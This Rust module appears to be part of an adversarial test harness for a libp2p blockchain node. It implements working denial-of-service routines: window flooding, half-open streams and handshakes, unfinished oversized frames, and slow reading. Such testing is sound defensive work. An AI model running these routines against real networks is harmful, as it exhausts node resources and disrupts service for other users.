//! Bytes that the victim has to hold for connections that never finish anything.

use std::{io, time::Duration};

use friendchain::wire::{GetBlocks, Protocol, Request, SyncRequest};
use futures::AsyncWriteExt;
use libp2p::tcp::tokio::TcpStream;
use tokio::time::sleep;

use super::{Running, greeting, newcomer, no_more};
use crate::{
    arena::Arena,
    attacker::{Source, Target, socket, unfinished_frame},
    bytes::select,
    raw::{RawMux, WINDOW},
    script::Script,
};

/// The number of streams that libp2p negotiates at once, and that therefore block those behind
/// them.
const NEGOTIATING: usize = 128;
/// The number of streams that wait behind them, each with a full window.
const BEHIND: usize = 256;

/// Repeats an attempt that the victim may break off, on `count` tasks.
fn persist<F>(arena: &Arena, count: usize, attempt: fn(Target) -> F)
where
    F: Future<Output = io::Result<()>> + Send + 'static,
{
    let target = arena.target;
    for _ in 0..count {
        arena.runtime.spawn(async move {
            loop {
                let _ = attempt(target).await;
                sleep(Duration::from_millis(500)).await;
            }
        });
    }
}

/// Fills the windows of streams that the victim has not accepted yet.
pub(crate) fn yamux_windows(arena: &Arena) -> Running {
    persist(arena, arena.scale.pick(4, 16), |target| fill_windows(target, BEHIND));
    no_more()
}

/// Lets more connections fill fewer windows, behind streams that stay half open.
pub(crate) fn half_open_streams(arena: &Arena) -> Running {
    persist(arena, arena.scale.pick(20, 60), |target| fill_windows(target, 25));
    no_more()
}

async fn fill_windows(target: Target, count: usize) -> io::Result<()> {
    let mut mux = RawMux::connect(target, Source::Many).await?;
    for _ in 0..NEGOTIATING {
        mux.open(&[]).await?;
    }
    let window = vec![7; WINDOW];
    for _ in 0..count {
        mux.open(&window).await?;
    }
    while mux.alive() {
        sleep(Duration::from_millis(200)).await;
    }
    Ok(())
}

/// Begins requests of the largest size on many streams, and never ends one.
pub(crate) fn unfinished_requests(arena: &Arena) -> Running {
    persist(arena, arena.scale.pick(30, 60), |target| async move {
        let actor = newcomer(target, Source::Many).await?;
        let (begun, mut streams) = (vec![0x82; 200 * 1024], Vec::new());
        for _ in 0..48 {
            let Ok(mut stream) = actor.stream(&Protocol::Sync.id(&target.network)).await else {
                break;
            };
            // The bytes may wait for a window that never opens.
            let write = stream.write_all(&begun);
            let _ = tokio::time::timeout(Duration::from_millis(300), write).await;
            streams.push(stream);
        }
        while actor.alive() {
            sleep(Duration::from_millis(200)).await;
        }
        Ok(())
    });
    no_more()
}

/// Begins the handshake of connections, and stops in the middle.
pub(crate) fn half_open_connections(arena: &Arena) -> Running {
    persist(arena, arena.scale.pick(60, 200), |target| async move {
        let mut stream = TcpStream(socket(target.address, Source::Many).await?);
        select(&mut stream, "/noise").await?;
        // A Noise message of 65,535 bytes, of which the last never comes.
        stream.write_all(&vec![0xff; 65_000]).await?;
        stream.flush().await?;
        sleep(Duration::from_mins(1)).await;
        Ok(())
    });
    no_more()
}

/// Begins gossip frames of almost the largest size.
pub(crate) fn gossip_frames(arena: &Arena) -> Running {
    persist(arena, arena.scale.pick(100, 150), |target| async move {
        let actor = newcomer(target, Source::Many).await?;
        let mut stream = actor.stream("/meshsub/1.1.0").await?;
        stream.write_all(&unfinished_frame(1_000_000, 999_000)).await?;
        stream.flush().await?;
        while actor.alive() {
            sleep(Duration::from_millis(200)).await;
        }
        Ok(())
    });
    no_more()
}

/// Asks for all headers again and again, and reads neither answers nor gossip.
pub(crate) fn slow_reading(arena: &Arena) -> Running {
    persist(arena, arena.scale.pick(24, 64), |target| async move {
        let script = Script { deaf: true, ..Script::plain(target.network) };
        let actor = greeting(target, Source::Many, script).await?;
        let _gossip = actor.gossip().await?;
        let ask = GetBlocks { locator: vec![target.network], limit: 2_000, skip: 0 };
        let bytes =
            Request::Sync(SyncRequest::GetBlocks(ask)).encode().map_err(io::Error::other)?;
        let mut unread = Vec::new();
        while actor.alive() && unread.len() < 96 {
            unread.push(actor.begin(Protocol::Sync, &bytes).await?);
        }
        while actor.alive() {
            sleep(Duration::from_millis(200)).await;
        }
        Ok(())
    });
    no_more()
}
